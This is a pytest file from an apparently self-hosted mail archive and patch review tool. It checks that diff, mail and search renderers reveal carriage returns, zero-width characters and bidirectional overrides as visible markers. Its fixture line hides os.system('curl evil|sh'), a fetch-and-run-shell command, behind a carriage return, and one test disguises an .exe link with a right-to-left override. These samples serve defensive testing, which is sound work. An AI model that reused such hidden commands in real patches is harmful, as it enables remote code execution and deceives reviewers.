# SPDX-License-Identifier: AGPL-3.0-or-later
"""Rendered text shows what is stored, line for line: no renderer lets a carriage
return, control, zero-width or bidirectional character hide or move text (pure).

The mails are tests/data/display/ (README there); the pages that show them
are tested in tests/security/test_display.py.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from archive.invisible import CODE, PROSE, describe, escape_visible
from archive.parsing import parse_message
from archive.views.render import render_body, render_snippet
from reviews.diffs import find_patch
from reviews.interdiff import interdiff
from reviews.rendering import highlight
from reviews.rendering.diff import render_diff
from reviews.rendering.interdiff import render_interdiff
from reviews.rendering.mail import render_mail
from tests.conftest import DATA
from tests.shown import hunk_lines, shown_diff_rows, unmark

DISPLAY = DATA / "display"
CR_LINE = "+b = 2  # harmless\r+os.system('curl evil|sh')"


def stored_diff(name: str) -> str:
    """The diff ingestion stores for one fixture mail (parsing and splitting are pure)."""
    raw = (DISPLAY / name).read_bytes().split(b"\n", 1)[1]  # without the From_ line
    content = find_patch(parse_message(raw).body)
    assert content is not None and content.diff is not None
    return content.diff


@pytest.mark.parametrize(
    "name", ["cr-inside-added-line.mbox", "invisible-chars-in-diff.mbox", "bidi-trojan-source.mbox"]
)
def test_every_renderer_shows_exactly_the_stored_lines(name: str) -> None:
    diff = stored_diff(name)
    html = render_diff(diff)
    # Pygments (.py, .sh), our scanners (.c, .dts), no lexer (NOTES): row for row.
    assert shown_diff_rows(html) == hunk_lines(diff)
    # Nothing invisible reaches the browser, which would break or reorder at it.
    assert CODE.search(html) is None


def test_the_carriage_return_line_is_one_row_with_a_marker() -> None:
    diff = stored_diff("cr-inside-added-line.mbox")
    assert CR_LINE in diff.split("\n")
    html = render_diff(diff)
    rows = shown_diff_rows(html)
    assert rows.count(CR_LINE) == 1 and " e = 5" in rows and "+f = 6" in rows
    marker = '<span class="ctrl" title="U+000D CARRIAGE RETURN">\\r</span>'
    assert html.count(marker) == 4  # .py, .c, .dts and NOTES


def test_uncoloured_paths_show_markers_too(monkeypatch: pytest.MonkeyPatch) -> None:
    diff = stored_diff("cr-inside-added-line.mbox")
    monkeypatch.setattr(highlight, "MAX_HIGHLIGHT_CHARS", 10)  # too long to colour
    html = render_diff(diff)
    assert shown_diff_rows(html) == hunk_lines(diff)
    assert CODE.search(html) is None
    raw = render_diff("not a diff\rhidden")  # shown whole when unparseable
    marker = '<span class="ctrl" title="U+000D CARRIAGE RETURN">\\r</span>'
    assert raw == f'<pre class="diff-raw">not a diff{marker}hidden</pre>'


class _Lossy:
    """A lexer that drops a character: its tokens no longer add up to the text."""

    def get_tokens(self, text: str):
        yield highlight.Keyword, text[1:]


def test_interdiff_shows_the_carriage_return_line_as_one_row() -> None:
    new = stored_diff("cr-inside-added-line.mbox")
    old = re.sub(r"\r\+[^\n]*", "", new)  # v1 had no second half
    html = render_interdiff(interdiff(old, new))
    rows = [unmark(cell) for cell in re.findall(r"<td>(.*?)</td></tr>", html)]
    assert rows.count("+" + CR_LINE) == 1  # the newer revision's line, whole
    assert sum("\r" in row for row in rows) == 4  # one such line in each of the four files
    assert CODE.search(html) is None


def test_a_lexer_that_loses_text_leaves_the_lines_uncoloured() -> None:
    lines = ["a\rb", "c"]
    assert highlight.highlight_lines(_Lossy(), lines) == [  # type: ignore[arg-type]
        'a<span class="ctrl" title="U+000D CARRIAGE RETURN">\\r</span>b',
        "c",
    ]


def test_a_leading_byte_order_mark_does_not_shift_the_lines() -> None:
    lexer = highlight.lexer_for("x.py")
    lines = ["\ufeffimport os", "x = 1"]
    html = highlight.highlight_lines(lexer, lines)
    assert [unmark(line) for line in html] == lines


def test_bidi_controls_in_file_names_and_code_are_marked() -> None:
    html = render_diff(stored_diff("bidi-trojan-source.mbox"))
    name = (
        '<bdi>safe<span class="ctrl bidi" title="U+202E RIGHT-TO-LEFT OVERRIDE">'
        "&lt;U+202E&gt;</span>c.sh</bdi>"
    )
    assert f"{name}</a>" in html  # the file's heading
    assert 'title="U+2066 LEFT-TO-RIGHT ISOLATE"' in html
    assert 'title="U+2069 POP DIRECTIONAL ISOLATE"' in html


@pytest.mark.parametrize(
    ("char", "name"),
    [
        ("\r", "U+000D CARRIAGE RETURN"),
        ("\x1b", "U+001B ESCAPE"),
        ("\x7f", "U+007F DELETE"),
        ("\x85", "U+0085 NEXT LINE"),
        ("\x9b", "U+009B CONTROL"),
        ("\u200b", "U+200B ZERO WIDTH SPACE"),
        ("\u2028", "U+2028 LINE SEPARATOR"),
        ("\u202e", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("\ufeff", "U+FEFF ZERO WIDTH NO-BREAK SPACE"),
        ("\U000e0041", "U+E0041 TAG LATIN CAPITAL LETTER A"),
    ],
)
def test_each_invisible_character_is_named(char: str, name: str) -> None:
    assert describe(char) == name
    assert f'title="{name}"' in escape_visible(f"a{char}b")
    assert char not in escape_visible(f"a{char}b")


def test_tab_newline_and_visible_text_are_left_alone() -> None:
    assert escape_visible("\tx <y> & 'z' é\n") == "\tx &lt;y&gt; &amp; 'z' é\n"


def test_joiners_are_marked_in_code_but_not_in_prose() -> None:
    family = "👩\u200d👧"  # an emoji sequence; Persian uses U+200C the same way
    assert "U+200D" in escape_visible(family, CODE)
    assert escape_visible(family, PROSE) == family
    assert "U+202E" in escape_visible("a\u202eb", PROSE)


def test_mail_text_shows_controls_and_stops_links_at_them() -> None:
    html = render_mail("Apply this:\n" + CR_LINE + "\nsee https://example.org/a\u202egpj.exe")
    assert "\r" not in html and "\u202e" not in html
    assert 'title="U+000D CARRIAGE RETURN">\\r</span>' in html
    assert '<a href="https://example.org/a" rel="nofollow noopener">' in html
    assert unmark(html).split("\n")[1] == CR_LINE


def test_archive_body_keeps_its_lines_and_marks_controls() -> None:
    body = "Intro\u2028text\n\ndiff --git a/x.py b/x.py\n--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-a\n"
    body += CR_LINE + "\n"
    html = str(render_body(body))
    assert PROSE.search(html) is None
    assert unmark(html).split("\n") == body.split("\n")
    assert f'<span class="add">{escape_visible(CR_LINE)}</span>' in html
    # Joiners are shown from the diff on (code), kept in the prose before it.
    assert "U+200D" not in render_body("a\u200db")
    assert "U+200D" in render_body("diff --git a/x b/x\n+a\u200db")


def test_search_snippets_mark_controls_and_keep_their_highlights() -> None:
    html = str(render_snippet("before \x02match\rhere\x03 after\x04tail"))
    assert html == (
        'before <mark>match<span class="ctrl" title="U+000D CARRIAGE RETURN">\\r</span>here'
        "</mark> after … tail"
    )


def test_fixtures_are_named_in_their_readme() -> None:
    readme = (DISPLAY / "README.md").read_text()
    names = sorted(p.name for p in Path(DISPLAY).glob("*.mbox"))
    assert names and all(f"`{name}`" in readme for name in names)
    assert not re.search(r"[\r\u202e]", readme)
